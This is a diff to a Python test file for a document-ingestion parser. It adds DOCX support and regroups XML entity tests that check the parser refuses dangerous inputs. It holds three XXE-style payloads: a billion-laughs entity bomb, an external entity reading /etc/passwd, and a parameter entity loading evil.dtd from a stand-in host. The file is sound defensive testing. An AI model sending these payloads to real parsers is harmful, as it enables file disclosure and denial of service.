@@ -12,6 +12,7 @@ from ingest.errors import UnreadableDocument
 from ingest.formats.source import Source
 from ingest.formats.xml_package import open_package, resolved
 from storage.records import Verdict
+from tests.ingest.made_docx import paragraph, raw_docx
 from tests.ingest.made_packages import (
     made_epub,
     made_odf,
@@ -59,9 +60,18 @@ def epub(path: Path, text: str, before: str) -> Path:
     return made_epub(path, {"a.xhtml": f"{before}<html><body><p>{text}</p></body></html>"})
 
 
+def docx(path: Path, text: str, before: str) -> Path:
+    return raw_docx(path, paragraph(text), before=before)
+
+
 MAKERS = pytest.mark.parametrize(
-    "make", [pptx, xlsx, odt, ods, odp, epub], ids=lambda m: m.__name__
+    "make", [docx, pptx, xlsx, odt, ods, odp, epub], ids=lambda m: m.__name__
 )
+ENTITIES = {
+    "laughs": (f"<!DOCTYPE x [{LAUGHS}]>", "&l9;"),
+    "file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
+    "network": ('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd">%a;]>', "x"),
+}
 
 
 @MAKERS
@@ -82,15 +92,7 @@ def test_a_bomb_is_refused_in_no_time_and_no_memory(tmp_path: Path, make: Make) 
 
 
 @MAKERS
-@pytest.mark.parametrize(
-    ("declared", "text"),
-    [
-        (f"<!DOCTYPE x [{LAUGHS}]>", "&l9;"),
-        ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
-        ('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd">%a;]>', "x"),
-    ],
-    ids=["laughs", "file", "network"],
-)
+@pytest.mark.parametrize(("declared", "text"), ENTITIES.values(), ids=ENTITIES)
 def test_declared_entities_are_refused(
     tmp_path: Path, make: Make, declared: str, text: str
 ) -> None:
